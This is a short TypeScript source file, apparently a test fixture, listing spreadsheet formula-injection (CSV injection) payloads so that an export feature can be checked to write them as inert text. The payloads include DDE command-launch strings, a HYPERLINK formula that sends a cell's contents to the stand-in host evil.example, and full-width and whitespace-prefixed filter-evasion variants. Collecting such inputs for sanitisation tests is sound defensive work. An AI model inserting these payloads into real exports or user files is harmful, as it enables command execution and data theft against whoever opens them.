/**
 * Cell texts a spreadsheet would run as a formula (CSV injection), as a hostile claimant would
 * type them into a business name or a description. Exports must write each as inert text.
 */
export const FORMULA_PAYLOADS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?q="&A1,"영수증 보기")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+82-2-1234-5678+cmd',
  "-2+3+cmd|' /C notepad'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝HYPERLINK("http://evil.example")',
  '＋1＋1',
  '－1＋cmd',
  '＠SUM(A1)',
  ' =1+1',
  '\u3000=1+1',
];
